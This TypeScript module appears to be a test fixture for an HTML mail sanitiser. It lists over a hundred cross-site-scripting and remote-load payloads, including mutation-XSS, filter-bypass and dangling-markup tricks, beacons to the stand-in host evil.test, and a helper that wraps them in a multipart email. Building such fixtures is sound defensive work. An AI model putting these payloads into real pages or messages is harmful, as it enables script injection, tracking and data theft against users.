/**
 * HTML that wants to run or to reach out when it is shown, by kind. Whatever runs calls
 * `sentinel()`; whatever loads asks a host below `evil.test`. Shapes are those that mail clients
 * and sanitisers have met; each stands alone, because one of them may swallow the next.
 */
export interface HostileHtml {
  readonly name: string;
  readonly markup: string;
}

const run = "self.sentinel()";
const svgRun = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`;
const pageRun = `<script>${run}</script>`;
const base64 = (text: string): string => Buffer.from(text).toString("base64");
const entities = (text: string): string =>
  text.replace(/./gs, (character) => `&#x${character.charCodeAt(0).toString(16)};`);

const shapes: Readonly<Record<string, readonly string[]>> = {
  script: [
    `<script>${run}</script>`,
    `<script src="http://evil.test/script.js"></script>`,
    `<script type="module">${run}</script>`,
    `<script\n>${run}</script\n>`,
    `<SCRIPT/XSS SRC="http://evil.test/x.js"></SCRIPT>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<script><!--\n${run}\n--></script>`,
    `<<script>${run}//<</script>`,
    `<script>${run}`,
    `\u0000<scr\u0000ipt>${run}</scr\u0000ipt>`,
  ],
  handler: [
    `<img src="x" onerror="${run}">`,
    `<body onload="${run}">`,
    `<p onmouseover="${run}" style="padding:200px">move here</p>`,
    `<details open ontoggle="${run}"><summary>x</summary>y</details>`,
    `<input autofocus onfocus="${run}">`,
    `<marquee onstart="${run}">x</marquee>`,
    `<div style="animation:a 1ms" onanimationstart="${run}">x</div><style>@keyframes a{}</style>`,
    `<img/src=x/onerror=${run}>`,
    `<img src=x onerror\n=\n"${run}">`,
    `<img src='x' OnErRoR='${entities(run)}'>`,
    `<div tabindex=0 autofocus onfocusin="${run}">x</div>`,
    `<div onpointerenter="${run}" style="padding:200px">x</div>`,
  ],
  svg: [
    `<svg onload="${run}"></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><image href="http://evil.test/image.png"/></svg>`,
    `<svg><use href="http://evil.test/use.svg#x"/></svg>`,
    `<svg><use href="data:image/svg+xml;base64,${base64(svgRun)}#x"/></svg>`,
    `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
    `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="20">x</text></a></svg>`,
    `<svg><foreignObject><iframe srcdoc="${pageRun}"></iframe></foreignObject></svg>`,
    `<svg><style>@import "http://evil.test/svg.css";</style></svg>`,
    `<svg><feImage href="http://evil.test/fe.png"/></svg>`,
  ],
  mathml: [
    `<math><mtext><script>${run}</script></mtext></math>`,
    `<math href="javascript:${run}">x</math>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  ],
  style: [
    `<style>@import "http://evil.test/import.css";</style>x`,
    `<style>body{background:url(http://evil.test/body.png)}</style>x`,
    `<style>@font-face{font-family:e;src:url(http://evil.test/f.woff)}p{font-family:e}</style><p>x</p>`,
    `<style>p::before{content:url(http://evil.test/content.png)}</style><p>x</p>`,
    `<link rel="stylesheet" href="http://evil.test/link.css">`,
    `<p style="background:url(http://evil.test/attr.png)">x</p>`,
    `<p style="background:u\\72l(http://evil.test/escaped.png)">x</p>`,
    `<p style="background-image:image-set('http://evil.test/set.png' 1x)">x</p>`,
    `<p style="list-style:url('http://evil.test/list.png')">x</p>`,
    `<p style="width:expression(${run});behavior:url(http://evil.test/x.htc);-moz-binding:url(http://evil.test/x.xml)">x</p>`,
    `<p style="color:red;/*" onclick="x" style2="*/background:url(http://evil.test/comment.png)">x</p>`,
    `<p style="border-image:url(http://evil.test/border.png) 30;cursor:url(http://evil.test/c.cur),auto;border-width:9px">x</p>`,
  ],
  picture: [
    `<img src="http://evil.test/pixel.png">`,
    `<img src="//evil.test/scheme.png">`,
    `<img srcset="http://evil.test/srcset.png 1x">`,
    `<picture><source srcset="http://evil.test/source.png"><img src="cid:logo@praxis"></picture>`,
    `<img src="data:image/svg+xml;base64,${base64(svgRun)}">`,
    `<img src="cid:svg@evil">`,
    `<img lowsrc="http://evil.test/low.png" dynsrc="http://evil.test/dyn.png" longdesc="http://evil.test/d">`,
    `<table background="http://evil.test/table.png"><tr><td background="http://evil.test/cell.png">x</td></tr></table>`,
    `<body background="http://evil.test/background.png">`,
    `<input type="image" src="http://evil.test/input.png">`,
    `<img src="\thttp://evil.test/tab.png">`,
    `<img src="http:evil.test/slashless.png">`,
    `<img src="\\\\evil.test\\share.png">`,
  ],
  media: [
    `<video src="http://evil.test/v.mp4" autoplay></video>`,
    `<video poster="http://evil.test/poster.png"></video>`,
    `<video><source src="http://evil.test/vs.mp4" onerror="${run}"></video>`,
    `<audio src="http://evil.test/a.mp3" autoplay></audio>`,
    `<video src="data:video/mp4,x" controls><track default src="http://evil.test/t.vtt"></video>`,
    `<bgsound src="http://evil.test/b.wav">`,
  ],
  page: [
    `<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(pageRun)}">`,
    `<meta http-equiv="Content-Security-Policy" content="report-uri http://evil.test/report">`,
    `<base href="http://evil.test/"><img src="base.png"><a href="x">x</a>`,
    `<link rel="preload" as="image" href="http://evil.test/preload.png">`,
    `<link rel="dns-prefetch" href="http://prefetch.evil.test/"><link rel="preconnect" href="http://evil.test/">`,
    `<link rel="prefetch" href="http://evil.test/prefetch"><link rel="icon" href="http://evil.test/icon.png">`,
    `<link rel="manifest" href="http://evil.test/m.json"><link rel="modulepreload" href="http://evil.test/m.js">`,
    `<html manifest="http://evil.test/appcache"><body>x</body></html>`,
    `<script type="speculationrules">{"prefetch":[{"urls":["http://evil.test/spec"]}]}</script>`,
  ],
  frame: [
    `<iframe src="http://evil.test/frame"></iframe>`,
    `<iframe srcdoc="${pageRun}"></iframe>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe src="data:text/html;base64,${base64(pageRun)}"></iframe>`,
    `<iframe src="cid:page@evil"></iframe>`,
    `<iframe src="mhtml:cid:page@evil!x"></iframe>`,
    `<frameset><frame src="http://evil.test/frameset"></frameset>`,
    `<object data="http://evil.test/object"></object>`,
    `<object data="data:text/html;base64,${base64(pageRun)}"></object>`,
    `<embed src="http://evil.test/embed">`,
    `<embed src="data:image/svg+xml;base64,${base64(svgRun)}">`,
    `<applet code="x" archive="http://evil.test/a.jar"></applet>`,
    `<portal src="http://evil.test/portal"></portal><fencedframe src="http://evil.test/ff"></fencedframe>`,
  ],
  form: [
    `<form action="http://evil.test/form"><input name="p" autofocus><button>x</button></form>`,
    `<form><button formaction="javascript:${run}">x</button></form>`,
    `<form id="f" action="http://evil.test/f"></form><input form="f" type="submit" value="x">`,
    `<isindex action="javascript:${run}" type="image">`,
    `<form><input name="attributes"><input name="nodeName" onfocus="${run}" autofocus></form>`,
  ],
  link: [
    `<a href="javascript:${run}">x</a>`,
    `<a href="java\tscript:${run}">x</a>`,
    `<a href=" &#14; javascript:${run}">x</a>`,
    `<a href="&#106;avascript&colon;${run}">x</a>`,
    `<a href="vbscript:msgbox(1)">x</a>`,
    `<a href="data:text/html;base64,${base64(pageRun)}">x</a>`,
    `<a href="blob:http://evil.test/x">x</a>`,
    `<a href="https://praxis.example/" ping="http://evil.test/ping">x</a>`,
    `<a href="https://praxis.example/" attributionsrc="http://evil.test/attribution">x</a>`,
    `<map name="m"><area shape="default" href="javascript:${run}"></map><img src="cid:logo@praxis" usemap="#m">`,
  ],
  mutation: [
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<template><img src=x onerror=${run}></template><template shadowrootmode="open"><script>${run}</script></template>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
    `<svg><desc><table><mglyph><style><![CDATA[</style><img src=x onerror=${run}>]]></table></desc></svg>`,
    `<!--><img src=x onerror=${run}>-->`,
    `<!-- --!><img src=x onerror=${run}> -->`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<?xml-stylesheet href="javascript:${run}"?><img src=x onerror=${run}>`,
    `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
    `<title><a title="</title><img src=x onerror=${run}>"></title>`,
    `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
    `<select><iframe></select><img src=x onerror=${run}>`,
    `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
    `<plaintext><img src=x onerror=${run}>`,
    `<p id="</p><svg><style><img src=x onerror=${run}>">x</p>`,
  ],
  broken: [
    `<a title='x"><img src=x onerror=${run}>' href="https://a.test">x</a>`,
    `<p title="x\`><img src=x onerror=${run}>">x</p>`,
    `<a href="https://a.test/'><img src=x onerror=${run}>">x</a>`,
    `<img alt="'"onerror="${run}"src=x>`,
    `<img src='http://evil.test/dangling?`,
    `<a href="https://a.test"><img src="http://evil.test/dangling2?text=`,
    `<p style="x:'&quot;&gt;&lt;img src=x onerror=${run}&gt;">x</p>`,
    `&lt;script&gt;${run}&lt;/script&gt;&lt;img src=x onerror=${run}&gt;`,
    `\u00bcscript\u00be${run}\u00bc/script\u00be<\uff1cscript>${run}`,
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `<img src=x onerror=&#x73;elf.sentinel&lpar;&rpar;>`,
    `<${"div><".repeat(600)}img src=x onerror=${run}>`,
    `${"<b><table>".repeat(300)}<script>${run}</script>`,
    `<p ${"a=b ".repeat(3000)}onclick=${run}><img src=x onerror=${run}>`,
  ],
};

export const hostileHtml: readonly HostileHtml[] = Object.entries(shapes).flatMap(
  ([kind, markups]) => markups.map((markup, index) => ({ name: `${kind} ${index + 1}`, markup })),
);

/** A mail of this HTML alone, with a page and an SVG attached that it may name by Content-ID. */
export function hostileMail(markup: string, header = "Subject: x"): Buffer {
  const part = (type: string, id: string, content: string): string =>
    `--b\r\nContent-Type: ${type}\r\nContent-ID: <${id}>\r\nContent-Disposition: inline; filename="${id}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(content).replace(/.{76}/g, "$&\r\n")}\r\n`;
  return Buffer.from(
    `From: a@evil.test\r\n${header}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n` +
      part("text/html; charset=utf-8", "body@evil", markup) +
      part("text/html", "page@evil", pageRun) +
      part("image/svg+xml", "svg@evil", svgRun) +
      "--b--\r\n",
  );
}
